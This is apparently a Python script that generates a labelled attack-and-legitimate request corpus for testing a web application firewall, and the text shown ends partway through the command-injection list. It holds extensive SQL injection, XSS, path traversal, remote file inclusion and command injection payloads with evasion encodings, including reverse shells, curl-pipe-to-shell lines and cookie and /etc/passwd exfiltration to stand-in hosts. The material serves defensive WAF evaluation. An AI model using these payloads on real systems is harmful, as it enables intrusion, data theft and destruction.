#!/usr/bin/env python3
"""Generate the labelled WAF request corpus: attacks.jsonl and legit.jsonl.

Every line is one request in the `edgewall eval` input format:

    {"method":..,"url":..,"headers":{..},"body":..|null,"client_ip":"203.0.113.x","id":..}

The label is the `id`: "<category>/<nnnn>" plus "/evasive" for attacks that
use an evasion technique (encoding tricks, comments, case, whitespace, ...),
e.g. "sqli/0042/evasive" or "legit-forum/0007". eval echoes the id, so its
decisions can be joined back to the labels.

The output is deterministic: one seeded random.Random drives every choice,
so running this script again rewrites both files byte for byte. Python 3
standard library only. Usage:

    python3 tests/waf-corpus/generate.py            # (re)write the files
    python3 tests/waf-corpus/generate.py --check    # exit 1 if they differ

All payloads were written for this corpus. They are inert test strings that
point at reserved names and documentation addresses (example.com,
evil.example, 198.51.100.0/24, 203.0.113.0/24) and are only ever sent to
servers the comparison runner starts on 127.0.0.1.
"""

import base64
import hashlib
import hmac
import json
import random
import sys
from pathlib import Path
from urllib.parse import quote, quote_plus

HERE = Path(__file__).resolve().parent
SEED = 20240617

# --------------------------------------------------------------------------
# Client profiles
# --------------------------------------------------------------------------

CHROME_WIN = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
              "(KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36")
CHROME_MAC = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 "
              "(KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36")
CHROME_ANDROID = ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 "
                  "(KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36")
EDGE_WIN = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80")
FIREFOX_LINUX = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
FIREFOX_WIN = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0"
SAFARI_MAC = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
              "(KHTML, like Gecko) Version/17.4.1 Safari/605.1.15")
SAFARI_IOS = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 "
              "(KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1")

BROWSERS = [
    ("chrome", CHROME_WIN, '"Windows"'),
    ("chrome", CHROME_MAC, '"macOS"'),
    ("chrome", CHROME_ANDROID, '"Android"'),
    ("edge", EDGE_WIN, '"Windows"'),
    ("firefox", FIREFOX_LINUX, None),
    ("firefox", FIREFOX_WIN, None),
    ("safari", SAFARI_MAC, None),
    ("safari", SAFARI_IOS, None),
]

API_CLIENTS = [
    "curl/8.5.0",
    "python-requests/2.31.0",
    "okhttp/4.12.0",
    "axios/1.6.8",
    "Go-http-client/1.1",
    "PostmanRuntime/7.37.3",
    "MyShopApp/3.14.1 (iPhone; iOS 17.4.1; Scale/3.00)",
]

LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8",
         "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7", "ja-JP,ja;q=0.9,en;q=0.8",
         "zh-CN,zh;q=0.9", "es-ES,es;q=0.9", "pt-BR,pt;q=0.9,en;q=0.8",
         "ar-SA,ar;q=0.9,en;q=0.8", "ru-RU,ru;q=0.9,en;q=0.8"]

ACCEPT_DOC = {
    "chrome": ("text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,"
               "image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"),
    "edge": ("text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,"
             "image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7"),
    "firefox": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "safari": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
}

ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
HEXD = "0123456789abcdef"


def token(rng, n, alphabet=ALNUM):
    return "".join(rng.choice(alphabet) for _ in range(n))


def b64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def make_jwt(rng, claims):
    header = b64url(b'{"alg":"HS256","typ":"JWT"}')
    payload = b64url(json.dumps(claims, separators=(",", ":")).encode())
    key = token(rng, 32).encode()
    sig = b64url(hmac.new(key, f"{header}.{payload}".encode(), hashlib.sha256).digest())
    return f"{header}.{payload}.{sig}"


def session_cookie(rng):
    parts = [f"sessionid={token(rng, 32, HEXD)}"]
    if rng.random() < 0.7:
        parts.append(f"_ga=GA1.1.{rng.randint(10**8, 10**9 - 1)}.{rng.randint(1_690_000_000, 1_718_000_000)}")
    if rng.random() < 0.5:
        parts.append(f"csrftoken={token(rng, 32)}")
    if rng.random() < 0.3:
        parts.append("cookie_consent=accepted")
    if rng.random() < 0.3:
        parts.append(f"lang={rng.choice(['en', 'de', 'fr', 'ja'])}")
    return "; ".join(parts)


def browser_headers(rng, kind="document", referer=None, cookie=True, browser=None):
    """A header set as a real browser sends it (names lower case, as eval
    and HTTP/2 see them)."""
    fam, ua, platform = browser or rng.choice(BROWSERS)
    h = {"host": "example.com", "user-agent": ua}
    if kind == "document":
        h["accept"] = ACCEPT_DOC[fam]
    elif kind == "json":
        h["accept"] = "application/json, text/plain, */*"
    elif kind == "any":
        h["accept"] = "*/*"
    h["accept-language"] = rng.choice(LANGS)
    h["accept-encoding"] = "gzip, deflate, br, zstd" if fam in ("chrome", "edge") else "gzip, deflate, br"
    if fam in ("chrome", "edge"):
        brand = "Microsoft Edge" if fam == "edge" else "Google Chrome"
        h["sec-ch-ua"] = f'"Chromium";v="124", "{brand}";v="124", "Not-A.Brand";v="99"'
        h["sec-ch-ua-mobile"] = "?1" if "Android" in ua else "?0"
        h["sec-ch-ua-platform"] = platform
    if kind == "document":
        h["sec-fetch-dest"] = "document"
        h["sec-fetch-mode"] = "navigate"
        h["sec-fetch-site"] = "same-origin" if referer else "none"
        h["sec-fetch-user"] = "?1"
        h["upgrade-insecure-requests"] = "1"
    else:
        h["sec-fetch-dest"] = "empty"
        h["sec-fetch-mode"] = "cors"
        h["sec-fetch-site"] = "same-origin"
    if referer:
        h["referer"] = referer
    if cookie:
        h["cookie"] = cookie if isinstance(cookie, str) else session_cookie(rng)
    return h


def api_headers(rng, ua=None, auth=None):
    h = {"host": "example.com", "user-agent": ua or rng.choice(API_CLIENTS),
         "accept": "application/json"}
    if auth:
        h["authorization"] = auth
    return h


def attacker_headers(rng):
    """What the attack requests carry besides the payload: a browser, curl or
    a script, so that only the payload is suspicious."""
    r = rng.random()
    if r < 0.5:
        fam, ua, _ = rng.choice(BROWSERS)
        return {"host": "example.com", "user-agent": ua, "accept": ACCEPT_DOC[fam],
                "accept-language": rng.choice(LANGS[:4]), "accept-encoding": "gzip, deflate, br"}
    if r < 0.75:
        return {"host": "example.com", "user-agent": "curl/8.5.0", "accept": "*/*"}
    return {"host": "example.com", "user-agent": "python-requests/2.31.0",
            "accept-encoding": "gzip, deflate", "accept": "*/*"}


# --------------------------------------------------------------------------
# Encodings (the transport-level half of the evasions)
# --------------------------------------------------------------------------

def enc_std(s):
    """What an HTML form (and a browser's address bar) produces."""
    return quote_plus(s, safe="")


def enc_raw(s):
    """Minimal encoding, as curl or a script sends it: only what breaks the
    request line or the query syntax is escaped."""
    return quote(s, safe="!$'()*,/:;=@[]~|{}^`")


def enc_pct20(s):
    return quote(s, safe="")


def enc_double(s):
    return quote(quote(s, safe=""), safe="")


def enc_unicode(s):
    """IIS-style %uXXXX for every character that is not a letter or digit."""
    out = []
    for ch in s:
        if ch.isascii() and ch.isalnum():
            out.append(ch)
        else:
            out.append("%u{:04X}".format(ord(ch)))
    return "".join(out)


def enc_all(s):
    """Every byte percent-encoded, letters too (over-encoding)."""
    return "".join("%{:02X}".format(b) for b in s.encode())


def enc_mixed(s):
    """Percent-encode only the letters of keywords, lower-case hex, to break
    up signatures: SELECT -> %53ELECT."""
    out = []
    for i, ch in enumerate(s):
        if ch.isascii() and ch.isalpha() and i % 3 == 0:
            out.append("%{:02x}".format(ord(ch)))
        elif ch.isascii() and (ch.isalnum() or ch in "-_.~"):
            out.append(ch)
        else:
            out.append("%{:02X}".format(ord(ch)) if ord(ch) < 128 else quote(ch))
    return "".join(out)


ENCODERS = {"std": enc_std, "raw": enc_raw, "pct": enc_pct20, "double": enc_double,
            "unicode": enc_unicode, "all": enc_all, "mixed": enc_mixed}
EVASIVE_ENCODINGS = {"double", "unicode", "all", "mixed"}


def enc_cookie(s):
    return quote(s, safe="!#$&'()*+-./:<=>?@[]^_`{|}~")


def enc_filename(s):
    # Chrome escapes these three in a multipart filename.
    return s.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A")


# --------------------------------------------------------------------------
# Bodies
# --------------------------------------------------------------------------

def form_body(pairs, enc=enc_std):
    return "&".join(f"{quote_plus(k, safe='[]$')}={enc(v)}" for k, v in pairs)


def multipart(rng, parts):
    """parts: (name, value) for a field, (name, filename, ctype, content) for a file."""
    boundary = "----WebKitFormBoundary" + token(rng, 16)
    out = []
    for p in parts:
        if len(p) == 2:
            out.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{p[0]}"\r\n\r\n{p[1]}\r\n')
        else:
            name, fname, ctype, content = p
            out.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '
                       f'filename="{fname}"\r\nContent-Type: {ctype}\r\n\r\n{content}\r\n')
    out.append(f"--{boundary}--\r\n")
    return "".join(out), f"multipart/form-data; boundary={boundary}"


def jdump(obj):
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


# --------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------

class Corpus:
    def __init__(self):
        self.rows = []
        self.counters = {}
        self.locations = {}

    def add(self, category, method, url, headers, body=None, evasive=False, loc=None):
        assert url.startswith("/"), url
        assert " " not in url and "\n" not in url and "\r" not in url, url
        assert all(ord(c) < 128 for c in url), url
        n = self.counters.get(category, 0) + 1
        self.counters[category] = n
        label = f"{category}/{n:04d}" + ("/evasive" if evasive else "")
        ip = f"203.0.113.{len(self.rows) % 254 + 1}"
        if body is not None and "content-type" not in headers and category != "protocol":
            raise ValueError(f"{label}: body without content-type")
        self.rows.append({"method": method, "url": url, "headers": headers,
                          "body": body, "client_ip": ip, "id": label})
        loc = loc or infer_location(url, headers, body)
        self.locations[loc] = self.locations.get(loc, 0) + 1


def infer_location(url, headers, body):
    """Where a hand-built request carries its payload, for the summary only."""
    if body is not None:
        ct = headers.get("content-type", "")
        ct = ct if isinstance(ct, str) else ct[0]
        for key, name in (("multipart", "multipart"), ("json", "json"), ("xml", "xml"),
                          ("x-www-form-urlencoded", "form")):
            if key in ct:
                return name
        return "body-other"
    if "?" in url:
        return "query"
    return "path-or-headers"


# Attack placement -----------------------------------------------------------

PAGES = ["/search", "/products", "/api/v1/items", "/index.php", "/account/settings",
         "/blog/post", "/catalog/view", "/app/report", "/cgi-bin/status", "/shop/cart"]

JSON_SHAPES = [
    lambda k, p: {"user": {"name": "alice", "profile": {k: p, "public": True}}},
    lambda k, p: {"query": {"filter": [{"field": "title", "op": "eq", "value": p}]}, "page": 1},
    lambda k, p: {"data": {"type": "comment", "attributes": {k: p}}, "meta": {"v": 2}},
    lambda k, p: {"items": [{"sku": "A-100", "qty": 1}, {"sku": "B-7", "qty": 2, k: p}]},
    lambda k, p: {k: p, "limit": 20, "offset": 0},
]

CUSTOM_HEADERS = ["x-api-version", "x-request-id", "x-custom-search", "x-user-id",
                  "x-client-data", "x-device-id"]

# Where each attack goes, cycled per category.
ALL_LOCS = ["query", "form", "json", "path", "cookie", "multipart", "ua", "query",
            "referer", "filename", "xff", "header", "form", "json"]


def header_safe(p):
    return p.isascii() and "\r" not in p and "\n" not in p and "\x00" not in p


def place(c, rng, cat, payload, loc, params, enc="std", evasive=False, method=None,
          extra_headers=None):
    """Put `payload` at `loc` and add the request. Header and body locations
    carry the payload as is; URL-ish ones through the encoder `enc`."""
    h = attacker_headers(rng)
    if extra_headers:
        h.update(extra_headers)
    e = ENCODERS[enc]
    param = rng.choice(params)
    page = rng.choice(PAGES)
    if enc in EVASIVE_ENCODINGS:
        evasive = True
    if loc in ("ua", "referer", "xff", "header", "cookie") and not header_safe(payload):
        loc = "query"
    add = c.add

    def cadd(*args):
        add(*args, loc=loc)

    if loc == "query":
        other = rng.choice(["", "lang=en&", "page=2&", "sort=asc&", "v=3&"])
        cadd(cat, method or "GET", f"{page}?{other}{param}={e(payload)}", h, None, evasive)
    elif loc == "path":
        seg = e(payload) if enc != "std" else enc_pct20(payload)
        base = rng.choice(["/products/", "/users/", "/files/", "/api/v1/articles/", "/wiki/"])
        cadd(cat, method or "GET", base + seg, h, None, evasive)
    elif loc == "form":
        h["content-type"] = "application/x-www-form-urlencoded"
        body = form_body([("name", "Alice"), (param, payload), ("submit", "Send")], e)
        cadd(cat, method or "POST", page, h, body, evasive)
    elif loc == "json":
        h["content-type"] = "application/json"
        shape = rng.choice(JSON_SHAPES)
        cadd(cat, method or "POST", "/api/v1/" + rng.choice(["users", "search", "comments", "orders"]),
              h, jdump(shape(param, payload)), evasive)
    elif loc == "multipart":
        body, ct = multipart(rng, [("title", "Holiday pictures"), (param, payload)])
        h["content-type"] = ct
        cadd(cat, method or "POST", "/upload", h, body, evasive)
    elif loc == "filename":
        fname = enc_filename(payload)
        body, ct = multipart(rng, [("album", "2024"),
                                   ("file", fname, "text/plain", "just some text\n")])
        h["content-type"] = ct
        cadd(cat, method or "POST", "/upload", h, body, evasive)
    elif loc == "cookie":
        h["cookie"] = f"sessionid={token(rng, 32, HEXD)}; {param}={enc_cookie(payload)}"
        cadd(cat, method or "GET", page, h, None, evasive)
    elif loc == "ua":
        h["user-agent"] = payload
        cadd(cat, method or "GET", page, h, None, evasive)
    elif loc == "referer":
        h["referer"] = f"https://example.com/{param}?q={payload}"
        cadd(cat, method or "GET", page, h, None, evasive)
    elif loc == "xff":
        h["x-forwarded-for"] = payload
        cadd(cat, method or "GET", page, h, None, evasive)
    elif loc == "header":
        h[rng.choice(CUSTOM_HEADERS)] = payload
        cadd(cat, method or "GET", page, h, None, evasive)
    else:
        raise ValueError(loc)


def emit(c, rng, cat, plain, evasive, params, locs=ALL_LOCS, plain_encs=("std", "raw"),
         evasive_encs=("std", "raw", "double", "unicode", "std", "mixed", "raw", "all")):
    """Emit every plain payload at a location and every evasive payload at a
    location, cycling through the locations and the encodings."""
    i = 0
    for p in plain:
        place(c, rng, cat, p, locs[i % len(locs)], params, plain_encs[i % len(plain_encs)])
        i += 1
    for j, p in enumerate(evasive):
        if isinstance(p, tuple):           # (payload, forced location, forced encoding)
            p, loc, enc = p
        else:
            loc, enc = locs[i % len(locs)], evasive_encs[j % len(evasive_encs)]
        place(c, rng, cat, p, loc, params, enc, evasive=True)
        i += 1


# --------------------------------------------------------------------------
# Attacks
# --------------------------------------------------------------------------

SQLI_PLAIN = [
    "' OR '1'='1",
    "' OR 1=1-- -",
    "admin'--",
    "1' AND SLEEP(5)-- -",
    "1 UNION SELECT username, password FROM users--",
    "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- -",
    "1; DROP TABLE users--",
    "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -",
    "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(database(),FLOOR(RAND(0)*2))x "
    "FROM information_schema.tables GROUP BY x)a)",
    "'; EXEC xp_cmdshell('whoami')--",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1 AND 1=CAST((SELECT current_user) AS int)",
    "' OR pg_sleep(5)--",
    "1' ORDER BY 10-- -",
    "-1' UNION SELECT 1,load_file('/etc/passwd'),3-- -",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -",
    "\" OR \"\"=\"",
    "') OR ('a'='a",
    "1 OR 1=1",
    "' HAVING 1=1--",
    "1' INTO OUTFILE '/var/www/html/s.php'-- -",
    "' AND 1=(SELECT COUNT(*) FROM sysobjects)--",
    "1 AND updatexml(1,concat(0x3a,user()),1)",
    "' || (SELECT banner FROM v$version WHERE rownum=1)--",
    "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -",
    "1 AND benchmark(10000000,md5(1))",
    "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)-- -",
    "'; INSERT INTO users (name, role) VALUES ('eve','admin')--",
    "1'; UPDATE users SET password='x' WHERE name='admin'--",
    "' AND (SELECT SUBSTR(password,1,1) FROM users WHERE username='admin')='a",
    "1 AND 5423=5423",
    "x' AND 1=(SELECT 1 FROM pg_sleep(3))--",
    "1;SELECT * FROM mysql.user",
    "' UNION SELECT @@version,NULL-- -",
    "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
    "1' AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL)-- -",
    "' OR EXISTS(SELECT * FROM users WHERE name='admin' AND password LIKE 'a%')--",
    "1); SHUTDOWN WITH NOWAIT;--",
    "' UNION SELECT sql FROM sqlite_master--",
    "1' AND 1=convert(int,(SELECT TOP 1 name FROM sys.tables))--",
]

SQLI_EVASIVE = [
    "1'/**/OR/**/'1'='1",
    "1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users",
    "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -",
    "1' /*!UNION*/ /*!SELECT*/ user(),2-- -",
    "' UnIoN SeLeCt NuLl,VeRsIoN()-- -",
    "1' oR 1=1 #",
    "1'\tOR\t'1'='1",
    "1'\nUNION\nSELECT\n1,2\n-- -",
    "1'+OR+'x'='x",
    "' OR 'ad'||'min'='ad'||'min",
    "' UNION SELECT CONCAT('ad','min'),2-- -",
    "' OR name=CHAR(97,100,109,105,110)-- -",
    "' OR name=0x61646d696e-- -",
    "1 UNI/**/ON SEL/**/ECT 1,2",
    "\uff07 OR 1=1-- -",
    "1\uff07 \uff35\uff2e\uff29\uff2f\uff2e \uff33\uff25\uff2c\uff25\uff23\uff34 1,2-- -",
    "1e0UNION SELECT 1,2",
    "\\N UNION SELECT 1,2",
    "1'%0aAND%0aSLEEP(5)-- -",
    "1' AnD sLeEp(5)#",
    "1'||(sElEcT/**/1)--",
    "1' OR 1=1 LIMIT 1;%00",
    "1 /*!12345AND*/ 1=1",
    "-1' uNiOn/*foo*/aLl/*bar*/sElEcT 1,2,3-- -",
    "1'=sleep(5)='1",
    "1' and 'a'='a'#",
    "admin'/*",
    "1' OR '1' LIKE '1",
    "' OR 2>1-- -",
    "1' || '1'='1",
    "1'%09OR%09'1'%3D'1",
    "'%20uNiOn%20sElEcT%20pAsSwOrD%20fRoM%20uSeRs--",
    "1 AND ASCII(LOWER(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1)))>0",
    "1';DECLARE @q VARCHAR(99);SET @q=0x77616974666f722064656c61792027303a303a3527;EXEC(@q)--",
    "1 div 0 UNION SELECT 1,2",
    "1' AND (SELECT 1)=1 AND '1'='1",
    "x' AnD 1=1 UnIoN/**/AlL(SeLeCt 1,2)#",
    "' OR 1 -- -\r\n",
    "1' or true-- -",
    "0'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z",
]

XSS_PLAIN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg onload=alert(1)>",
    "\"><script>fetch('//evil.example/c?'+document.cookie)</script>",
    "javascript:alert(1)",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "'-alert(1)-'",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "{{constructor.constructor('alert(1)')()}}",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<marquee onstart=alert(1)>hi</marquee>",
    "\"><img src=x onerror=prompt(1)>",
    "<script src=//evil.example/x.js></script>",
    "</textarea><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<base href=\"//evil.example/\">",
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=import href=\"//evil.example/x.html\">",
    "\";alert(String.fromCharCode(88,83,83));//",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=\"javascript:alert(1)\">",
    "<svg><script>alert&#40;1&#41;</script>",
    "<img src=\"x\" onmouseover=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<script>document.location='//evil.example/?c='+document.cookie</script>",
]

XSS_EVASIVE = [
    "<ScRiPt>alert(1)</sCrIpT>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<svg/onload=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<svg onload=alert`1`>",
    "<img src=x onerror=\"window['al'+'ert'](1)\">",
    "<img src=x onerror=eval('al'+'ert(1)')>",
    "<img src=x onerror=top[/al/.source+/ert/.source](1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<svg onload=window['\\x61lert'](1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<svg onload=setTimeout('ale'+'rt(1)')>",
    "<img src=x onerror=alert;throw 1>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<a href=\"jav\nascript:alert(1)\">x</a>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a>",
    "<img src=1 oNeRrOr=confirm(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<x onclick=alert(1)>click",
    "<img src=`x`onerror=alert(1)>",
    "<svg><set attributeName=onload to=alert(1)>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    "\"onmouseover=\"alert(1)",
    "<body/onpageshow=alert(1)>",
    "<img src=x:x onerror=Function('ale'+'rt(1)')()>",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'",
    "javas\tcript:alert(1)",
    "<iMg sRc=x OnErRoR=\"&#x61;lert(1)\">",
]

TRAV_PLAIN = [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "../../../../../../etc/hosts",
    "/proc/self/environ",
    "php://filter/convert.base64-encode/resource=index.php",
    "file:///etc/passwd",
    "../../../../etc/passwd\x00.png",
    "/var/log/apache2/access.log",
    "C:\\boot.ini",
    "..\\..\\..\\..\\boot.ini",
    "../../WEB-INF/web.xml",
    "../../../.git/config",
    "../../../../root/.ssh/id_rsa",
    "../.env",
    "expect://id",
    "zip://uploads/avatar.jpg#shell.php",
    "phar://uploads/img.jpg/x.php",
    "/etc/passwd",
    "../../../../../proc/self/cmdline",
    "../../../var/www/html/config.php",
    "....//....//....//etc/passwd",
    "../../../../windows/system32/drivers/etc/hosts",
    "../../../../usr/local/etc/php/php.ini",
    "..%2f..%2f..%2fetc%2fpasswd",
    "/../../../../etc/group",
    "../../../../../../../etc/issue",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "../../../../home/ubuntu/.bash_history",
    "php://input",
]

TRAV_EVASIVE = [
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%u2215..%u2215..%u2215etc%u2215passwd",
    ".././.././.././etc/./passwd",
    "..//..//..//etc//passwd",
    "..\\/..\\/..\\/etc/passwd",
    "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd",
    "..;/..;/WEB-INF/web.xml",
    "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
    "....\\\\....\\\\....\\\\windows\\\\win.ini",
    "/etc/pass??",
    "..%00/..%00/etc/passwd",
    "/%5C../%5C../%5C../etc/passwd",
    "PhP://FiLtEr/read=string.rot13/resource=config.php",
    "php://filter/read=convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "/etc/./././passwd",
    "..%5c..%5c..%5cboot.ini",
    "%252e%252e%252fetc%252fpasswd",
    "..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
    "/var/www/../../etc/passwd",
    "fIlE:///EtC/PaSsWd",
    "..././..././..././etc/passwd",
    "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
]

RFI_PLAIN = [
    "http://evil.example/shell.txt?",
    "https://attacker.example/c99.php",
    "ftp://evil.example/payload.txt",
    "http://198.51.100.66/s.txt?",
    "\\\\evil.example\\share\\shell.php",
    "http://evil.example/shell.txt%00",
    "//evil.example/x.txt",
    "http://evil.example/shell.txt#",
    "https://198.51.100.23/backdoor.php?",
    "http://evil.example/r57.txt??",
    "http://evil.example:8080/inc.php?cmd=id",
    "ftp://anonymous:x@198.51.100.5/pub/s.php",
    "http://evil.example/webshell.jpg?.php",
    "https://pastebin.example/raw/Xy7Qz1?",
    "http://evil.example/include.php?x=",
    "smb://198.51.100.77/share/evil.php",
    "http://evil.example/shell.txt?&page=",
    "https://evil.example/template.tpl#",
    "http://198.51.100.66:8000/shell.txt",
    "http://evil.example/phpinfo.txt?",
    "https://raw.evil.example/p/loader.php?",
    "http://evil.example/x.txt?%00",
]

RFI_EVASIVE = [
    "hTtP://evil.example/shell.txt?",
    "HtTpS://EvIl.ExAmPlE/c99.php",
    "h%74tp://evil.example/s.txt",
    "http:%2f%2fevil.example%2fshell.txt",
    "http:/\\evil.example/shell.txt?",
    "http://0xc6336442/s.txt?",
    "http://3325256770/s.txt?",
    "http://0306.0063.0144.0102/s.txt?",
    "\\\\198.51.100.66@SSL\\DavWWWRoot\\s.php",
    "http://evil%2eexample/shell.txt?",
    "http://evil.example/%73hell.txt?",
    "http://evil\u3002example/shell.txt?",
    "ht\ttp://evil.example/s.txt",
    "http://example.com@evil.example/s.txt?",
    "HTTP://EVIL.EXAMPLE/S.TXT?",
    "https:\\\\evil.example\\s.php",
]

CMDI_PLAIN = [
    "; cat /etc/passwd",
    "| id",
    "&& whoami",
    "`id`",
    "$(id)",
    "; nc -e /bin/sh 198.51.100.7 4444",
    "; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "|| curl http://evil.example/x.sh | sh",
    "; wget -O- http://evil.example/a | sh",
    "; ping -c 10 127.0.0.1",
    "& dir c:\\",
    "| powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    "; python3 -c 'import os;os.system(\"id\")'",
    "\nid",
    "; rm -rf /tmp/*",
    "127.0.0.1; uname -a",
    "$(sleep 5)",
    "; echo $PATH",
    "; /bin/busybox telnetd -p 9999",
    "example.com && cat /etc/shadow",
    "| nslookup evil.example",
    "; curl -d @/etc/passwd http://evil.example/",
    "& net user eve P@ss /add",
    "; perl -e 'print `id`'",
    "| ls -la /",
    "; php -r 'system(\"id\");'",
    "$(curl -s http://evil.example/$(whoami))",
    "; crontab -l",
    "x; chmod 777 /tmp/x; /tmp/x",
    "| cmd.exe /c type C:\\Windows\\win.ini",
    "; kill -9 -1",
    "`sleep 5`",
]

CMDI_EVASIVE = [
    ";c''at /e''tc/pa''sswd",
    ";c\"a\"t /etc/passwd",
    ";c\\at /etc/pas\\swd",
    ";cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    ";{cat,/etc/passwd}",
    ";cat ${PATH:0:1}etc${PATH:0:1}passwd",
    ";/???/c?t /???/p?ss??",
    ";$(echo aWQ= | base64 -d)",
    ";w'h'o'am'i",
    ";who$@ami",
    "%0aid",
    ";\tid",
    ";$(printf '\\x69\\x64')",
    ";cat</etc/passwd",
    ";X=$'cat\\x20/etc/passwd'&&$X",
    "& who^ami",
    "| c^m^d /c dir",
    ";/b'i'n/s'h' -c id",
    "|${PATH:0:1}bin${PATH:0:1}id",
    ";i\\d",
    "$(rev<<<'di')",
    ";`echo${IFS}d2hvYW1p|base64${IFS}-d`",
    "||/usr/bin/i?",
    ";ca$()t /etc/passwd",
    "; WhoAmI",
    ";ec'h'o${IFS}pwned>/tmp/x",
    "&&%20c%61t%20/etc/passwd",
    "|\nid",
